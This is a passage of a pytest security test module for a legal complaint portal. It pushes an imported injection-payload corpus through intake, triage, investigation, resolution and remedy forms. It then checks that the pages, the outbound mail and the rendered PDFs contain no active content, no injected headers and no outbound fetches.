"""The injection corpus through every form, upload name, email and notice of the portal.

Payloads (tests/security/injection_corpus.py) go through each text field of each form in
FORMS, each upload name and an inbound email; what comes back (the answer to the post, full
page and htmx partial, the pages that show the stored value, and every message the outbox
then delivers to a local SMTP server) must hold no active content and no injected header,
uploads must stay in the evidence folder, and rendering the notices must make WeasyPrint
fetch nothing: the local leak server hears no request at all. The last section feeds each
checker a bad sample, so that none of this passes because a checker sees nothing.
"""

from __future__ import annotations

import base64
import io
import re
import secrets
import tempfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import timedelta
from email import message_from_bytes, policy
from email.header import decode_header, make_header
from email.message import EmailMessage
from html import escape as html_escape
from pathlib import Path
from urllib.parse import quote
from urllib.request import urlopen

import pytest
from flask import Flask
from sqlalchemy import func, select
from werkzeug.test import TestResponse

from portal import clock as portal_clock
from portal.commands.mailsink import MaildirSink
from portal.db import db, write_transaction
from portal.documents import DocumentError
from portal.documents import pdf as pdf_module
from portal.models import (
    Allegation,
    Ballot,
    Bulletin,
    Complaint,
    Evidence,
    Matter,
    Notice,
    OutboxMessage,
    RecourseText,
    RemedyTask,
    State,
    User,
)
from portal.models import Client as MatterClient
from portal.models.followup import ImprovementAction, RootCause
from portal.models.investigation import InterviewNote, Statement
from portal.models.outbox import OutboxStatus
from portal.models.prevention import ExpectationEntry, MatterChecklistItem, MatterType
from portal.services import outbox
from portal.services.analytics.filters import quarter_of
from portal.services.followup.callbacks import Call
from portal.services.resolution import decisions
from portal.web.intake_forms import local_input
from tests.ballot_support import awaiting as ballot_awaiting
from tests.ballot_support import open_ballot, proposal_ids, vote
from tests.bulletin_support import REFERENCE as BULLETIN_KEY
from tests.bulletin_support import finished
from tests.client_support import decision_id, outcome_sent, page_url
from tests.conftest import AuthActions, Client
from tests.decision_support import awaiting as decision_awaiting
from tests.decision_support import decide, dispute, due_dates, issue, person, set_recourse
from tests.findings_factory import answer_all, make_investigation
from tests.followup_support import REFERENCE as FOLLOW_UP_KEY
from tests.followup_support import (
    callback_ids,
    in_follow_up,
    latest,
    record_call,
    root_cause,
    survey_token,
)
from tests.imap_fixture import dovecot_server, imap_mailbox  # noqa: F401  (fixtures)
from tests.mail_support import PASSING, email_drafts, fetch
from tests.remedies_support import PNG, accepted, started
from tests.security.injection_corpus import (
    Corpus,
    DocumentRecorder,
    LeakServer,
    active_content,
    bad_original_name,
    encoded_filename,
    escaped_copies,
    evil_filenames,
    html_parts,
    http_header_problems,
    mail_problems,
    parse,
    pdf_attachments,
    pdf_problems,
    pdf_text,
    shown_literally,
    start_leak_server,
    svg_problems,
)
from tests.smtp_fixture import Envelope, SMTPServer, point_app_at, start_smtp_server
from tests.triage_support import registered, triaged, user_id
from tests.unit.test_intake_filetypes import PDF
from tests.web.test_bulletin_board import add_bulletin
from tests.web.test_decision_web import version_of
from tests.web.test_intake_readback import send_link
from tests.web.test_intake_support import (
    complete_draft,
    confirm_in_person,
    incident,
    new_draft,
    remedy,
    save,
    version,
)
from tests.web.test_intake_support import get as complaint_of
from tests.web.test_intake_support import person as complainant_fields
from tests.web.test_workspace_replies import LINK as REPLY_LINK
from tests.web.test_workspace_replies import ask
from tests.workspace_support import investigating, one_page_pdf

HX = {"HX-Request": "true"}
# The reference of findings_factory's complaint, on which every later phase's helper builds.
LATER_KEY = "TS-2026-00077"
STOP_POLLING = 286  # htmx: a polled partial that has nothing more to wait for
Context = dict
Setup = Callable[[Flask, Client, AuthActions], Context]


# -- fixtures -------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def leak_server() -> Iterator[LeakServer]:
    server = start_leak_server()
    yield server
    server.close()


@pytest.fixture(scope="module")
def corpus(leak_server: LeakServer) -> Corpus:
    return Corpus.build(leak_server.base)


@pytest.fixture(scope="module")
def smtp() -> Iterator[SMTPServer]:
    server = start_smtp_server()
    yield server
    server.stop()


@pytest.fixture
def mail_sink(app: Flask, smtp: SMTPServer) -> SMTPServer:
    """The module's SMTP server, empty, with the app's outbox pointed at it."""
    point_app_at(app, smtp)
    smtp.clear()
    return smtp


@pytest.fixture(autouse=True)
def documents(monkeypatch, leak_server: LeakServer,
              corpus: Corpus) -> Iterator[DocumentRecorder]:
    """Every test ends with WeasyPrint having fetched nothing but static/ and data: URIs, the
    leak server untouched, and no active content in the HTML a document was rendered from."""
    recorder = DocumentRecorder()
    render, fetch = pdf_module.html_to_pdf, pdf_module.StaticOnlyFetcher.fetch

    def recording_render(html: str) -> bytes:
        recorder.html.append(html)
        return render(html)

    def recording_fetch(self, url: str, headers: dict | None = None):
        recorder.fetched.append(url)
        return fetch(self, url, headers)

    monkeypatch.setattr(pdf_module, "html_to_pdf", recording_render)
    monkeypatch.setattr(pdf_module.StaticOnlyFetcher, "fetch", recording_fetch)
    leak_server.clear()
    yield recorder
    assert recorder.foreign_fetches() == []
    assert leak_server.requests == []
    for html in recorder.html:
        assert active_content(html, corpus, document=True) == []


# -- checking one answer --------------------------------------------------------------------------


def checked(response: TestResponse, corpus: Corpus) -> str:
    """The answer's HTML once it is known to be no server error, with clean headers and no
    active content; "" for an answer that is not HTML."""
    assert response.status_code < 500, response.text[:2000]
    problems = http_header_problems(response.headers.items())
    html = response.text if response.mimetype == "text/html" else ""
    problems += active_content(html, corpus) if html else []
    assert problems == [], f"{response.request.path}: {problems}"
    return html


def sign_in(auth: AuthActions, username: str | None) -> None:
    auth.logout()
    if username is not None:
        response = auth.login(username)
        assert response.status_code == 303, response.text


# -- the forms ------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Field:
    """A text field of a form and the most characters it takes. The name may hold a value of
    the case's context in braces (`comment-{proposal}`): ids known once the setup ran."""

    name: str
    limit: int = 2000


def _nothing(*_args) -> dict:
    return {}


def _no_views(*_args) -> list[str]:
    return []


@dataclass(frozen=True)
class FormCase:
    """One form: who posts it, where, its text fields, the rest of a valid post, and the
    pages that show what was stored (read back by `viewer`, the poster by default)."""

    name: str
    user: str | None
    url: Callable[[Flask, Context], str]
    fields: tuple[Field, ...]
    setup: Setup = _nothing
    data: Callable[[Flask, Context, int], dict] = _nothing
    views: Callable[[Flask, Context], list[str]] = _no_views
    viewer: str | None = None
    rounds: int = 1
    multipart: bool = False
    method: str = "POST"

    def __str__(self) -> str:
        return self.name


def texts_for(case: FormCase, corpus: Corpus, round_: int, context: Context) -> dict[str, str]:
    """Round robin over the corpus: each field and each round gets another payload; a field
    long enough gets all of them at once."""
    start = round_ * len(case.fields)
    return {f.name.format(**context): corpus.for_field(f.limit, start + i)
            for i, f in enumerate(case.fields)}


def submit(client: Client, case: FormCase, url: str, data: dict, htmx: bool) -> TestResponse:
    headers = HX if htmx else {}
    if case.method == "GET":
        return client.get(url, query_string=data, headers=headers)
    if case.multipart:
        return client.post(url, data=data, headers=headers, content_type="multipart/form-data")
    return client.post(url, data=data, headers=headers)


def run_case(case: FormCase, app: Flask, client: Client, auth: AuthActions, corpus: Corpus,
             sink: SMTPServer) -> None:
    context = case.setup(app, client, auth) or {}
    sign_in(auth, case.user)
    pages, sent = [], []
    for round_ in range(case.rounds):
        texts = texts_for(case, corpus, round_, context)
        sent += texts.values()
        data = {**case.data(app, context, round_), **texts}
        response = submit(client, case, case.url(app, context), data, htmx=round_ % 2 == 0)
        pages.append(checked(response, corpus))
    viewer = case.viewer or case.user
    if viewer != case.user:
        sign_in(auth, viewer)
    for url in case.views(app, context):
        for headers in ({}, HX):
            response = client.get(url, headers=headers)
            assert response.status_code in (200, STOP_POLLING), (url, response.status_code)
            pages.append(checked(response, corpus))
    check_mail(delivered(app, sink), corpus)
    assert any(shown_literally(page, text) for page in pages for text in sent), \
        f"{case.name}: no payload came back, so nothing was checked"


# -- reading the database -------------------------------------------------------------------------


def _newest(app: Flask, model) -> int:
    """The id of the row of `model` written last."""
    with app.app_context():
        return db.session.scalar(select(func.max(model.id)))


def _row_id(app: Flask, model, **filters) -> int:
    with app.app_context():
        return db.session.scalar(select(model.id).filter_by(**filters))


def _row_version(app: Flask, model, row_id: int) -> int:
    with app.app_context():
        return db.session.get(model, row_id).version


def _today() -> str:
    return portal_clock.today().isoformat()


# -- the mail a test caused -----------------------------------------------------------------------


@dataclass(frozen=True)
class Delivered:
    """What the SMTP server received, and the one address the outbox meant each message for
    (by the outbox row's id every message carries)."""

    envelopes: list[Envelope]
    recipients: dict[str, str]


def delivered(app: Flask, sink: SMTPServer) -> Delivered:
    """Everything the test queued, sent through the outbox to the local SMTP server (as the
    worker does), every message known to have gone."""
    with app.app_context():
        while outbox.deliver_due():
            pass
        rows = db.session.execute(select(OutboxMessage.id, OutboxMessage.status,
                                         OutboxMessage.recipient,
                                         OutboxMessage.last_error)).all()
        db.session.commit()
    assert [r for r in rows if r.status != OutboxStatus.SENT] == []
    sink.wait_for(len(rows))
    return Delivered(sink.envelopes, {str(r.id): r.recipient for r in rows})


def check_mail(mail: Delivered, corpus: Corpus) -> None:
    """Each message went to its one recipient, with well-formed headers, inert HTML parts and
    PDFs that hold no file of the server."""
    for envelope in mail.envelopes:
        row = message_from_bytes(envelope.data, policy=policy.compat32)[outbox.OUTBOX_ID_HEADER]
        recipient = mail.recipients.get(str(row).strip())
        problems = mail_problems(envelope.data, [recipient] if recipient else ["nobody"])
        if envelope.rcpt_tos != [recipient]:
            problems.append(f"sent to {envelope.rcpt_tos}, meant for {recipient}")
        for html in html_parts(envelope.data):
            problems += active_content(html, corpus, document=True)
        for pdf in pdf_attachments(envelope.data):
            problems += pdf_problems(pdf)
        assert problems == [], envelope.data[:3000]


# intake ----------------------------------------------------------------------------------------


def _draft(app: Flask, client: Client, auth: AuthActions) -> Context:
    sign_in(auth, "reception")
    return {"key": new_draft(client)}


def _complete(app: Flask, client: Client, auth: AuthActions) -> Context:
    sign_in(auth, "reception")
    return {"key": complete_draft(client, app)}


def _section(name: str) -> Callable[[Flask, Context], str]:
    return lambda app, ctx: f"/complaints/{ctx['key']}/sections/{name}"


def _on_complaint(path: str) -> Callable[[Flask, Context], str]:
    return lambda app, ctx: f"/complaints/{ctx['key']}{path}"


def _fixed(url: str) -> Callable[[Flask, Context], str]:
    return lambda app, ctx: url


def _case_file(app: Flask, ctx: Context) -> list[str]:
    return [f"/complaints/{ctx['key']}"]


def _case_file_and_timeline(app: Flask, ctx: Context) -> list[str]:
    return [f"/complaints/{ctx['key']}", f"/complaints/{ctx['key']}/timeline"]


def _versioned(**fixed) -> Callable[[Flask, Context, int], dict]:
    return lambda app, ctx, round_: {"version": version(app, ctx["key"]), **fixed}


def _always(**fixed) -> Callable[[Flask, Context, int], dict]:
    return lambda app, ctx, round_: dict(fixed)


def _evidence_file(app: Flask, ctx: Context, round_: int) -> dict:
    return {"evidence-file": (io.BytesIO(PDF), "合同.pdf"),
            "evidence-category": "engagement_contract"}


INTAKE = [
    FormCase("intake: complainant", "reception", _section("complainant"), (
        Field("complainant-name", 100), Field("complainant-address", 300)),
        setup=_draft, rounds=4, views=_case_file, data=_versioned(**{
            "complainant-language": "zh", "complainant-email": "chen@example.com"})),
    FormCase("intake: complainant contact (refused)", "reception", _section("complainant"), (
        Field("complainant-phone", 40), Field("complainant-email", 254),
        Field("complainant-id_number", 40)), setup=_draft, rounds=2,
        data=_versioned(**{"complainant-name": "陈小红", "complainant-language": "zh"})),
    FormCase("intake: incident", "reception", _section("incident"), (
        Field("incident-narrative", 20_000), Field("incident-occurred_place", 200)),
        setup=_draft, rounds=2, views=_case_file,
        data=_versioned(**{"incident-occurred_on": "2026-05-20"})),
    FormCase("intake: remedy", "reception", _section("remedy"), (
        Field("remedy-remedy_details", 2000),), setup=_draft, views=_case_file,
        data=_versioned(**{"remedy-remedies_sought": ["explanation", "other"]})),
    FormCase("intake: client search", "reception", _section("complainant"),
             (Field("q", 100),), setup=_draft, rounds=2, data=_always(action="search")),
    FormCase("intake: respondent search", "reception", _section("respondents"),
             (Field("q", 100),), setup=_draft, rounds=2),
    FormCase("intake: matter search", "reception", _section("matter"),
             (Field("q", 100),), setup=_draft, rounds=2),
    FormCase("intake: evidence description", "reception", _on_complaint("/evidence"),
             (Field("evidence-description", 300),), setup=_draft, rounds=2,
             multipart=True, data=_evidence_file, views=_case_file),
    FormCase("intake: confirmation note", "reception", _on_complaint("/confirm"),
             (Field("confirm-note", 2000),), setup=_complete, views=_case_file_and_timeline,
             data=_versioned(**{"confirm-method": "in_person"})),
    FormCase("intake: override reason", "partner2", _on_complaint("/override"),
             (Field("override-reason", 2000),), setup=_complete,
             views=_case_file_and_timeline),
    FormCase("intake: discard reason", "reception", _on_complaint("/discard"),
             (Field("discard-reason", 2000),), setup=_complete, views=_case_file,
             data=_versioned(**{"discard-confirm": "y"})),
]


# the client's and the public's forms -----------------------------------------------------------


def _read_back_link(app: Flask, client: Client, auth: AuthActions) -> Context:
    sign_in(auth, "reception")
    key = complete_draft(client, app, existing="Emily Carter", matter="M-2026-0057")
    return {"key": key, "path": send_link(client, app, key)}


def _newest_draft(app: Flask, ctx: Context) -> list[str]:
    return [f"/complaints/D{_newest(app, Complaint)}"]


def _public_form(app: Flask, ctx: Context, round_: int) -> dict:
    return {"language": "zh", "occurred_on": "2026-05-20", "consent": "y", "website": "",
            "remedies": ["explanation"], "email": "chen@example.com"}


PUBLIC = [
    FormCase("public: online complaint", None, _fixed("/complaint"), (
        Field("name", 100), Field("lawyers", 300), Field("matter", 200),
        Field("narrative", 10_000), Field("place", 200), Field("remedy_details", 2000)),
        rounds=2, data=_public_form, views=_newest_draft, viewer="reception"),
    FormCase("public: online complaint contact (refused)", None, _fixed("/complaint"), (
        Field("phone", 40), Field("email", 254)), rounds=2,
        data=lambda app, ctx, round_: {**_public_form(app, ctx, round_), "name": "陈小红",
                                       "narrative": "律师三个月没有回复我的电话。"}),
    FormCase("public: read-back correction", None, lambda app, ctx: ctx["path"],
             (Field("correction", 5000),), setup=_read_back_link, viewer="reception",
             data=_always(action="correct"), views=_case_file),
    FormCase("public: lost link reference", None, _fixed("/c/lost"),
             (Field("reference", 40),), rounds=2, data=_always(email="")),
    FormCase("public: lost link email", None, _fixed("/c/lost"),
             (Field("email", 254),), rounds=2, data=_always(reference="")),
    FormCase("public: sign-in name", None, _fixed("/login"),
             (Field("username", 100),), data=_always(password="wrong password")),
]


# searches --------------------------------------------------------------------------------------


def _search(name: str, user: str, url: str, *fields: Field) -> FormCase:
    return FormCase(f"search: {name}", user, _fixed(url), fields, rounds=2, method="GET")


SEARCHES = [
    _search("complaints", "reception", "/complaints", Field("q", 100)),
    _search("client suggestions", "reception", "/intake/search/clients", Field("q", 100)),
    _search("staff suggestions", "reception", "/intake/search/staff", Field("q", 100)),
    _search("matter suggestions", "reception", "/intake/search/matters", Field("q", 100)),
    _search("users", "partner2", "/admin/users", Field("q", 100)),
    _search("audit", "partner2", "/admin/audit", Field("actor", 100),
            Field("object_id", 40)),
    _search("bulletins", "reception", "/bulletins", Field("q", 100)),
    _search("matters", "partner2", "/matters", Field("q", 100), Field("type", 40)),
    _search("matter clients", "partner2", "/matters/clients", Field("client_q", 100)),
    _search("analytics filters", "partner2", "/analytics", Field("from", 40),
            Field("period", 40)),
]


# triage ----------------------------------------------------------------------------------------

TRIAGE_KEY = "TS-2026-00101"


def _registered(app: Flask, client: Client, auth: AuthActions) -> Context:
    return {"key": TRIAGE_KEY, "id": registered(app, TRIAGE_KEY)}


def _triaged(app: Flask, client: Client, auth: AuthActions) -> Context:
    context = _registered(app, client, auth)
    triaged(app, context["id"])
    with app.app_context():
        first = db.session.get(Complaint, context["id"]).allegations[0].id
    return {**context, "allegation": first}


def _triage_form(app: Flask, ctx: Context, round_: int) -> dict:
    return {"version": version(app, ctx["key"]), "triage-severity": "serious",
            "triage-categories": ["fees", "delay"], "triage-allegations-0-category": "fees",
            "triage-allegations-0-respondent": str(user_id(app, "王磊")),
            "triage-allegations-1-category": "delay", "triage-allegations-1-respondent": "",
            "triage-handler": str(user_id(app, "partner2"))}


def _allegation_form(prefix: str) -> Callable[[Flask, Context, int], dict]:
    return lambda app, ctx, round_: {
        "version": version(app, ctx["key"]),
        f"{prefix.format(**ctx)}-category": "fees",
        f"{prefix.format(**ctx)}-respondent": ""}


TRIAGE = [
    FormCase("triage: assessment and allegations", "partner2", _on_complaint("/triage"), (
        Field("triage-assessment", 4000), Field("triage-allegations-0-text", 4000),
        Field("triage-allegations-1-text", 4000)), setup=_registered, data=_triage_form,
        views=_case_file),
    FormCase("triage: revised assessment", "partner2", _on_complaint("/triage/revise"),
             (Field("revise-assessment", 4000),), setup=_triaged, views=_case_file,
             data=_versioned(**{"revise-severity": "minor", "revise-categories": ["fees"]})),
    FormCase("triage: closure explanation", "partner2", _on_complaint("/triage/close"),
             (Field("close-reason", 2000),), setup=_registered, views=_case_file,
             data=_versioned(**{"close-kind": "out_of_scope", "close-duplicate_of": ""})),
    FormCase("triage: duplicate reference (refused)", "partner2",
             _on_complaint("/triage/close"), (Field("close-duplicate_of", 20),),
             setup=_registered, rounds=2,
             data=_versioned(**{"close-kind": "duplicate", "close-reason": "重复投诉。"})),
    FormCase("triage: withdrawal reason", "reception", _on_complaint("/withdrawal"),
             (Field("withdraw-reason", 2000),), setup=_registered, views=_case_file,
             data=_versioned(**{"withdraw-method": "phone", "withdraw-confirm": "y"})),
    FormCase("triage: new allegation", "partner2", _on_complaint("/allegations"),
             (Field("allegation-new-text", 4000),), setup=_triaged, views=_case_file,
             data=_allegation_form("allegation-new")),
    FormCase("triage: amended allegation", "partner2",
             lambda app, ctx: f"/complaints/{ctx['key']}/allegations/{ctx['allegation']}",
             (Field("allegation-{allegation}-text", 4000),), setup=_triaged,
             views=_case_file, data=_allegation_form("allegation-{allegation}")),
    FormCase("triage: declared conflict", "partner2", _on_complaint("/conflicts"),
             (Field("conflict-reason", 2000),), setup=_registered, views=_case_file,
             data=lambda app, ctx, round_: {
                 "conflict-user": str(user_id(app, "investigator"))}),
    FormCase("triage: clocks paused", "partner2", _on_complaint("/clocks/pause"),
             (Field("clock-reason", 2000),), setup=_triaged, views=_case_file,
             data=_versioned()),
    FormCase("admin: calendar override", "partner2", _fixed("/calendar/overrides"),
             (Field("note", 200),), rounds=2, views=lambda app, ctx: ["/calendar?year=2027"],
             data=_always(year="2027", day="2027-10-09", kind="workday")),
]


# investigation ---------------------------------------------------------------------------------


def _investigating(app: Flask, client: Client, auth: AuthActions) -> Context:
    return {"key": investigating(app)}


def _workspace(app: Flask, ctx: Context) -> list[str]:
    return [f"/complaints/{ctx['key']}/investigation"]


def _statement_pages(app: Flask, ctx: Context) -> list[str]:
    return [*_workspace(app, ctx),
            f"/complaints/{ctx['key']}/investigation/statements/{_newest(app, Statement)}"]


def _note_pages(app: Flask, ctx: Context) -> list[str]:
    return [*_workspace(app, ctx),
            f"/complaints/{ctx['key']}/investigation/notes/{_newest(app, InterviewNote)}"]


def _evidence_pages(app: Flask, ctx: Context) -> list[str]:
    return [*_workspace(app, ctx), f"/complaints/{ctx['key']}/investigation/evidence",
            f"/complaints/{ctx['key']}/investigation/chronology"]


def _reply_link(app: Flask, client: Client, auth: AuthActions) -> Context:
    context = _investigating(app, client, auth)
    sign_in(auth, "investigator")
    assert ask(client, app).status_code == 200
    with app.app_context():
        body = db.session.scalar(select(OutboxMessage.body_text).where(
            OutboxMessage.kind == "reply_request"))
    return {**context, "path": REPLY_LINK.search(body).group(1)}


INVESTIGATION = [
    FormCase("investigation: statement", "investigator",
             _on_complaint("/investigation/statements"), (Field("statement-text", 20_000),),
             setup=_investigating, multipart=True, views=_statement_pages,
             data=lambda app, ctx, round_: {
                 "statement-speaker": "complainant", "statement-method": "interview",
                 "statement-given_on": _today(), "statement-attachment_category": ""}),
    FormCase("investigation: interview note", "investigator",
             _on_complaint("/investigation/notes"),
             (Field("note-participants", 300), Field("note-text", 20_000)),
             setup=_investigating, rounds=2, views=_note_pages,
             data=lambda app, ctx, round_: {"note-held_on": _today()}),
    FormCase("investigation: evidence description", "investigator",
             _on_complaint("/investigation/evidence"), (Field("evidence-description", 300),),
             setup=_investigating, rounds=2, multipart=True, data=_evidence_file,
             views=_evidence_pages),
    FormCase("public: respondent's written reply", None, lambda app, ctx: ctx["path"],
             (Field("text", 20_000),), setup=_reply_link, viewer="investigator",
             views=_statement_pages),
]


# findings --------------------------------------------------------------------------------------

def _under_investigation(app: Flask, client: Client, auth: AuthActions) -> Context:
    with app.app_context():
        complaint_id = make_investigation(reference=LATER_KEY)
        first = db.session.get(Complaint, complaint_id).allegations[0].id
    return {"key": LATER_KEY, "id": complaint_id, "allegation": first}


def _finding_form(app: Flask, ctx: Context, round_: int) -> dict:
    prefix = f"allegation-{ctx['allegation']}"
    with app.app_context():
        saved = db.session.get(Allegation, ctx["allegation"]).findings_version
    return {"version": saved, f"{prefix}-finding": "established",
            f"{prefix}-nature_found": "communication", f"{prefix}-severity_found": "general",
            f"{prefix}-responsibility": "individual", f"{prefix}-remedies": ["apology"]}


FINDINGS = [
    FormCase("findings: first response", "investigator", _on_complaint("/first-response"), (
        Field("first-response-summary", 4000), Field("first-response-next_steps", 2000)),
        setup=_under_investigation, views=_case_file, data=lambda app, ctx, round_: {
            "first-response-method": "call", "first-response-responded_at":
                local_input(portal_clock.now()).strftime("%Y-%m-%dT%H:%M")}),
    FormCase("findings: reasoning", "investigator",
             lambda app, ctx: f"/complaints/{ctx['key']}/findings/{ctx['allegation']}", (
                 Field("allegation-{allegation}-reasoning", 20_000),
                 Field("allegation-{allegation}-remedy_notes", 4000)),
             setup=_under_investigation, rounds=2, views=_case_file, data=_finding_form),
]


# resolution ------------------------------------------------------------------------------------

def _awaiting_committee(app: Flask, client: Client, auth: AuthActions) -> Context:
    return {"key": LATER_KEY, "id": ballot_awaiting(app)}


def _ballot_open(app: Flask, client: Client, auth: AuthActions) -> Context:
    context = _awaiting_committee(app, client, auth)
    ballot = open_ballot(app, context["id"])
    first, second = proposal_ids(app, ballot)
    return {**context, "ballot": ballot, "first": first, "second": second}


def _ballot_tied(app: Flask, client: Client, auth: AuthActions) -> Context:
    context = _ballot_open(app, client, auth)
    for member, choice in (("committee1", "approve"), ("committee2", "approve"),
                           ("committee3", "object")):
        vote(app, context["ballot"], member, choice)
    return context


def _ballot_page(app: Flask, ctx: Context) -> list[str]:
    with app.app_context():
        ballot = ctx.get("ballot") or db.session.scalar(select(func.max(Ballot.id)))
    return [f"/ballots/{ballot}", f"/complaints/{ctx['key']}"]


def _ballot_version(app: Flask, ctx: Context, round_: int) -> dict:
    with app.app_context():
        return {"version": db.session.get(Ballot, ctx["ballot"]).version,
                "proposal": ctx["second"]}


def _new_ballot(app: Flask, ctx: Context, round_: int) -> dict:
    closes = local_input(portal_clock.now() + timedelta(days=3)).strftime("%Y-%m-%dT%H:%M")
    return {"version": version(app, ctx["key"]), "closes_at": closes,
            "quorum_rule": "majority", "max_refund": "3000",
            "proposals-0-remedies": ["explanation", "free_follow_up"]}


def _awaiting_decision(app: Flask, client: Client, auth: AuthActions) -> Context:
    set_recourse(app)
    return {"key": LATER_KEY, "id": decision_awaiting(app)}


def _decision_form(app: Flask, ctx: Context, round_: int) -> dict:
    with app.app_context():
        complaint = db.session.get(Complaint, ctx["id"])
        proposal = decisions.basis(complaint)[1]
        due = {f"due-{rid}": day.isoformat() for rid, day in due_dates(complaint).items()}
        return {**due, "proposal_id": str(proposal.id), "version": complaint.version}


def _disputed(app: Flask, client: Client, auth: AuthActions) -> Context:
    context = _awaiting_decision(app, client, auth)
    decide(app, context["id"])
    issue(app, context["id"])
    dispute(app, context["id"])
    return context


def _discussed(app: Flask, client: Client, auth: AuthActions) -> Context:
    context = _disputed(app, client, auth)
    with app.app_context(), write_transaction():
        complaint = db.session.get(Complaint, context["id"])
        decisions.record_discussion(person("partner2"), complaint, discussion="电话沟通。",
                                    expected_version=complaint.version)
    return context


def _revision_form(app: Flask, ctx: Context, round_: int) -> dict:
    later = (portal_clock.today() + timedelta(days=40)).isoformat()
    with app.app_context():
        remedies = db.session.get(Complaint, ctx["id"]).current_decision.client_remedies
        data = {"version": version(app, ctx["key"]), "remedy_id": [str(r.id) for r in remedies],
                "added-kind": "free_follow_up", "added-amount": "", "added-due": later}
        for remedy in remedies:
            data |= {f"remedy-{remedy.id}-keep": "1", f"remedy-{remedy.id}-due": later,
                     f"remedy-{remedy.id}-amount": str(remedy.amount or ""),
                     f"remedy-{remedy.id}-scope": remedy.scope or ""}
    return data


def _outcome_sent(app: Flask, client: Client, auth: AuthActions) -> Context:
    complaint_id = outcome_sent(app)
    return {"key": LATER_KEY, "id": complaint_id, "page": page_url(app, complaint_id),
            "decision": decision_id(app, complaint_id)}


def _client_page(app: Flask, ctx: Context) -> list[str]:
    return [ctx["page"]]


def _recourse_page(app: Flask, ctx: Context) -> list[str]:
    return ["/admin/recourse"]


RESOLUTION = [
    FormCase("resolution: ballot proposals", "partner2", _on_complaint("/ballots/new"), (
        Field("proposals-0-rationale", 4000), Field("proposals-0-scope", 2000),
        Field("revision_note", 2000)), setup=_awaiting_committee, data=_new_ballot,
        views=_ballot_page),
    FormCase("resolution: vote comments", "committee1",
             lambda app, ctx: f"/ballots/{ctx['ballot']}/votes",
             (Field("comment-{first}", 2000), Field("comment-{second}", 2000)),
             setup=_ballot_open, rounds=2, views=_ballot_page,
             data=lambda app, ctx, round_: {f"choice-{ctx['first']}": "approve",
                                            f"choice-{ctx['second']}": "object"}),
    FormCase("resolution: recusal note", "committee1",
             lambda app, ctx: f"/ballots/{ctx['ballot']}/recuse", (Field("note", 2000),),
             setup=_ballot_open, views=_ballot_page),
    FormCase("resolution: partner's choice on a tie", "partner2",
             lambda app, ctx: f"/ballots/{ctx['ballot']}/resolve", (Field("reason", 4000),),
             setup=_ballot_tied, data=_ballot_version, views=_ballot_page),
    FormCase("resolution: decision summary", "partner2", _on_complaint("/decision"),
             (Field("client_summary", 10_000),), setup=_awaiting_decision,
             data=_decision_form, views=_case_file),
    FormCase("resolution: negotiation discussion", "partner2",
             _on_complaint("/negotiation/discussion"), (Field("discussion", 20_000),),
             setup=_disputed, data=_versioned(), views=_case_file),
    FormCase("resolution: revised decision", "partner2", _on_complaint("/negotiation/revision"),
             (Field("reason", 4000), Field("client_summary", 10_000),
              Field("added-scope", 2000)), setup=_discussed, data=_revision_form,
             views=_case_file),
    FormCase("resolution: client's answer taken by phone", "reception",
             _on_complaint("/client-answer"), (Field("reason", 4000),), setup=_outcome_sent,
             views=_case_file, data=lambda app, ctx, round_: {
                 "version": version(app, ctx["key"]), "kind": "disputed", "method": "phone",
                 "decision": str(ctx["decision"])}),
    FormCase("public: client's dispute on the client page", None,
             lambda app, ctx: f"{ctx['page']}/answer", (Field("reason", 4000),),
             setup=_outcome_sent, views=_client_page, data=lambda app, ctx, round_: {
                 "kind": "disputed", "decision": str(ctx["decision"])}),
    FormCase("admin: recourse texts", "partner2", _fixed("/admin/recourse/PRC"),
             (Field("text_zh", 4000), Field("text_en", 4000)), views=_recourse_page,
             setup=lambda app, client, auth: set_recourse(app),
             data=lambda app, ctx, round_: {"version": _recourse_version(app)}),
    FormCase("admin: new recourse jurisdiction (refused)", "partner2",
             _fixed("/admin/recourse"), (Field("jurisdiction", 20), Field("text_zh", 4000),
                                         Field("text_en", 4000)), rounds=2),
]


def _recourse_version(app: Flask) -> int:
    with app.app_context():
        return db.session.get(RecourseText, "PRC").version


# remedies and follow-up ------------------------------------------------------------------------


def _remedies_started(app: Flask, client: Client, auth: AuthActions) -> Context:
    complaint_id = accepted(app)
    return {"key": LATER_KEY, "id": complaint_id, **started(app, complaint_id)}


def _task_version(kind: str) -> Callable[[Flask, Context, int], dict]:
    def data(app: Flask, ctx: Context, round_: int) -> dict:
        with app.app_context():
            return {"version": db.session.get(RemedyTask, ctx[kind]).version}
    return data


def _task_url(kind: str) -> Callable[[Flask, Context], str]:
    return lambda app, ctx: f"/complaints/{ctx['key']}/remedies/{ctx[kind]}/complete"


def _follow_up(app: Flask, client: Client, auth: AuthActions) -> Context:
    complaint_id = in_follow_up(app)
    [callback] = callback_ids(app, complaint_id)
    return {"key": FOLLOW_UP_KEY, "id": complaint_id, "callback": callback,
            "survey": f"/s/{survey_token(app, callback)}"}


def _follow_up_answered(app: Flask, client: Client, auth: AuthActions) -> Context:
    context = _follow_up(app, client, auth)
    record_call(app, context["id"], Call(reached=True, satisfaction=5))
    return {**context, "other": root_cause(app, "other")}


def _callback_version(app: Flask, ctx: Context, round_: int) -> dict:
    return {"version": latest(app, ctx["id"])["version"], "reached": "no"}


REMEDIES = [
    FormCase("remedies: follow-up service done", "investigator",
             _task_url("free_follow_up"), (Field("notes", 4000),), setup=_remedies_started,
             data=_task_version("free_follow_up"), views=_case_file),
    FormCase("remedies: apology letter", "investigator", _task_url("written_apology"),
             (Field("letter_text", 20_000),), setup=_remedies_started,
             data=_task_version("written_apology"), views=_case_file),
    FormCase("remedies: refund method (refused)", "investigator", _task_url("partial_refund"),
             (Field("method", 40), Field("paid_amount", 40)), setup=_remedies_started,
             rounds=2, multipart=True, data=lambda app, ctx, round_: {
                 **_task_version("partial_refund")(app, ctx, round_), "paid_on": _today(),
                 "receipt": (io.BytesIO(PNG), "回单.png")}),
    FormCase("follow-up: unanswered call", "investigator",
             lambda app, ctx: f"/complaints/{ctx['key']}/follow-up/{ctx['callback']}/call",
             (Field("notes", 4000),), setup=_follow_up, data=_callback_version,
             views=_case_file),
    FormCase("follow-up: open issue by phone", "investigator",
             lambda app, ctx: f"/complaints/{ctx['key']}/follow-up/{ctx['callback']}/call",
             (Field("open_issue", 4000),), setup=_follow_up, views=_case_file,
             data=lambda app, ctx, round_: {**_callback_version(app, ctx, round_),
                                            "reached": "yes", "satisfaction": "2"}),
